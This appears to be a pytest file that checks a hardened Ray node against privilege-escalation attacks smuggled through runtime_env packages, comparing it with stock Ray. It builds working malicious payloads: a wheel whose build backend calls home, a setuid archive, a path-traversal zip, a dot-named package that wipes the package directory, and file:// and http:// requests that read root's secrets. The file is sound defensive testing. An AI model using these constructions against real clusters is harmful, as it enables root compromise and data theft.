"""Attacks through the packages of a runtime_env, which Ray's agent unpacks as root.

The same on stock Ray and on a node of ours: the agent is told to read what the
client may not, to fetch from where it may not go, to install, to write outside of
the package's directory, and to show one job's package to another.
"""

from __future__ import annotations

import io
import json
import stat
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.node.home import CALL, SAFE, Home
from tests.node.nodes import PLAIN, Node

pytestmark = [pytest.mark.ray, pytest.mark.root, pytest.mark.timeout(240)]

SECRET = "the secret of root"
VICTIM = """
import pathlib
found = {}

@ray.remote
def honest():
    import victim_module
    return [pathlib.Path("victim.txt").read_text(), victim_module.WORD]

found["honest"] = ray.get(honest.remote(), timeout=60)
print(json.dumps(found))
"""
ATTACKS = """
import json, pathlib, threading
from ray._private.worker import global_worker

found = {}
started = []
put = global_worker.gcs_client.internal_kv_put
for name, package in PACKAGES.items():
    put(name.encode(), bytes.fromhex(package), True, None)

@ray.remote(max_retries=0)
def look(paths):
    # Whatever of these can be read from where the task runs.
    seen = []
    for path in paths:
        for each in pathlib.Path(path).glob("**/*.txt"):
            try:
                seen.append(each.read_text())
            except OSError:
                pass
    return seen

def attempt(name, *paths, **runtime_env):
    def run():
        try:
            asked = look.options(runtime_env=runtime_env).remote(list(paths))
            found[name] = ray.get(asked, timeout=60)
        except BaseException as error:
            found[name] = f"{type(error).__name__}: {error}"[:3000]
    started.append(threading.Thread(target=run))
    started[-1].start()

attempt("file_zip", ".", working_dir=f"file://{SITE}/secret.zip")
attempt("file_tar", *[f"{RESOURCES}/py_modules_files"],
        py_modules=[f"file://{SITE}/secret.tar.gz"])
attempt("upper", ".", working_dir=f"FILE://{SITE}/other.zip")
attempt("http", ".", working_dir=f"http://127.0.0.1:{HOME}/x.zip")
attempt("wheel", ".", py_modules=["gcs://evil-1.0-py3-none-any.whl"])
attempt("setuid", ".", working_dir="gcs://_ray_pkg_5e7.zip")
attempt("traversal", ".", working_dir="gcs://_ray_pkg_77a.zip")
for each in started:
    each.join()
# These see what another job unpacked.
attempt("local", ".", working_dir=f"local://{RESOURCES}/working_dir_files")
attempt("path", f"{RESOURCES}/working_dir_files",
        env_vars={"PYTHONPATH": f"{RESOURCES}/working_dir_files"})
for each in started:
    each.join()
print(json.dumps(found))
"""


DOTS = """
put = ray._private.worker.global_worker.gcs_client.internal_kv_put
for name, package in PACKAGES.items():
    put(name.encode(), bytes.fromhex(package), True, None)
try:
    wanted = {"working_dir": "gcs://...zip"}
    ray.get(ray.remote(lambda: 1).options(runtime_env=wanted).remote(), timeout=60)
except ray.exceptions.RayError as error:
    print(error)
"""


def _zip(members: dict[str, str], mode: int = 0o644) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        for name, content in members.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFREG | mode) << 16
            file.writestr(info, content)
    return made.getvalue()


def _tar(members: dict[str, str]) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as file:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            file.addfile(info, io.BytesIO(content.encode()))
    return made.getvalue()


def _packages(source: Path, home: Home) -> dict[str, str]:
    """What a client puts into the GCS: package name to its bytes.

    The wheel runs nothing itself; what it depends on does when it is built.
    """
    code = (CALL + SAFE).format(port=home.port)
    source.write_bytes(
        _tar(
            {
                "evil-1.0/pyproject.toml": "[build-system]\nrequires = []\n"
                'build-backend = "backend"\nbackend-path = ["."]\n',
                "evil-1.0/backend.py": f"{code}\nsafe_call('wheel')\n",
            }
        )
    )
    info = "evil-1.0.dist-info"
    wheel = {
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"
        f"Requires-Dist: evil-dependency @ file://{source}\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\n"
        "Tag: py3-none-any\n",
        f"{info}/RECORD": "",
    }
    made = {
        "gcs://evil-1.0-py3-none-any.whl": _zip(wheel),
        "gcs://_ray_pkg_5e7.zip": _zip({"tool": "#!/bin/sh\n"}, 0o6755),
        "gcs://_ray_pkg_77a.zip": _zip({"../../traversed.txt": "x", "a.txt": "a"}),
        "gcs://...zip": _zip({"planted.txt": "planted"}),
    }
    return {name: package.hex() for name, package in made.items()}


class Outcome:
    """What the attacks came to on one node.

    Attributes:
        found: Attack to what its owner saw.
        heard: Who called home, or was sent there.
        honest: What a job saw of its own directory and module.
        modes: Of the program whose archive says that it is "set user id".
        traversed: Files of a package that are outside of its directory.
        lost: Whether the directory of all packages was replaced by one.
    """

    def __init__(self, home: Home, place: Path, kind: str) -> None:
        node = Node(PLAIN if kind == "stock" else None, RUNTIME_ENV_RETRY_TIMES="1")
        before = len(home.heard)
        try:
            (node.site / "secret.zip").write_bytes(_zip({"secret.txt": SECRET}))
            (node.site / "other.zip").write_bytes(_zip({"secret.txt": SECRET}))
            (node.site / "secret.tar.gz").write_bytes(_tar({"secret.txt": SECRET}))
            assert node.site.stat().st_mode & 0o077 == 0
            victim = place / kind
            for name, text in (
                ("dir/victim.txt", "of the victim"),
                ("module/victim_module/__init__.py", "WORD = 'imported'"),
            ):
                (victim / name).parent.mkdir(parents=True)
                (victim / name).write_text(text)
            honest = (
                f"options = {{'runtime_env': {{'working_dir': '{victim}/dir', "
                f"'py_modules': ['{victim}/module/victim_module']}}}}"
            )
            self.honest = json.loads(
                node.drive("import json\n" + VICTIM, honest).splitlines()[-1]
            )["honest"]
            resources = node.session / "runtime_resources"
            values: dict[str, Any] = {
                "SITE": str(node.site), "HOME": home.port, "RESOURCES": str(resources),
                "PACKAGES": _packages(place / f"evil-{kind}.tar.gz", home),
            }  # fmt: skip
            names = "".join(f"{name} = {value!r}\n" for name, value in values.items())
            self.found = json.loads(node.drive(names + ATTACKS).splitlines()[-1])
            self.heard = home.heard[before:]
            self.modes = [path.stat().st_mode for path in resources.glob("*/*/tool")]
            self.traversed = list(resources.parent.glob("**/traversed.txt"))
            canary = resources / "canary"
            canary.touch()
            names += "PACKAGES = {'gcs://...zip': PACKAGES['gcs://...zip']}\n"
            self.dots = node.drive(names + DOTS)
            self.lost = not canary.exists()
        finally:
            node.close()


@pytest.fixture(scope="module")
def stock(home: Home, tmp_path_factory: pytest.TempPathFactory) -> Outcome:
    """Stock Ray."""
    return Outcome(home, tmp_path_factory.mktemp("stock"), "stock")


@pytest.fixture(scope="module")
def ours(
    home: Home, stock: Outcome, tmp_path_factory: pytest.TempPathFactory
) -> Outcome:
    """A node of ours, after the control."""
    return Outcome(home, tmp_path_factory.mktemp("ours"), "ours")


def test_control_all_of_it_works_on_stock_ray(stock):
    """Root's files, requests, code as root, another user's rights, others' packages.

    A path out of the package's directory is Ray's own to refuse, and it does.
    """
    found = stock.found
    for name in ("file_zip", "file_tar", "upper"):
        assert SECRET in found[name]
    assert {word.split()[0] for word in stock.heard} == {"GET", "wheel"}
    assert [mode & 0o7777 for mode in stock.modes] == [0o6755]
    assert "of the victim" in found["local"]
    assert "of the victim" in found["path"]
    assert stock.lost
    assert (stock.traversed, found["traversal"]) == ([], ["a"])


def test_directories_and_modules_of_a_driver_work(ours, stock):
    """What ray.init uploads is unpacked and imported as on stock Ray."""
    assert ours.honest == stock.honest == ["of the victim", "imported"]
    assert (ours.traversed, ours.found["traversal"]) == ([], ["a"])


def test_the_agent_reads_and_fetches_nothing_for_a_client(ours):
    """No file of root's is seen, no request is made, nothing is built."""
    assert SECRET not in json.dumps(ours.found)
    assert ours.heard == []


@pytest.mark.parametrize(
    ("name", "key", "scheme", "remedy"),
    [
        ("file_zip", "working_dir", "file", "Ray uploads it"),
        ("file_tar", "py_modules", "file", "Ray uploads it"),
        ("upper", "working_dir", "file", "Ray uploads it"),
        ("local", "working_dir", "local", "Ray uploads it"),
        ("http", "working_dir", "http", 'runtime_env.remote_uris = "allow"'),
        ("wheel", "py_modules", "gcs", 'runtime_env.pip = "allow"'),
    ],
)
def test_a_package_is_refused_in_words(ours, name, key, scheme, remedy):
    """The error names the runtime_env's key, the scheme and what to do instead."""
    said = ours.found[name]
    assert f"runtime_env key '{key}': {scheme}:// refused by this node's policy" in said
    assert remedy in said


def test_no_program_of_a_package_is_roots(ours):
    """It is unpacked, without the bits that would give others root's rights."""
    assert [mode & 0o7777 for mode in ours.modes] == [0o755]


def test_one_jobs_packages_are_not_shown_to_another(ours):
    """A client's PYTHONPATH does not name the directory that holds all packages."""
    assert ours.found["path"] == []


def test_a_package_does_not_replace_those_of_all(ours):
    """A name of dots is refused before Ray deletes the directory above."""
    assert not ours.lost
    assert "it is no name that Ray gives" in ours.dots
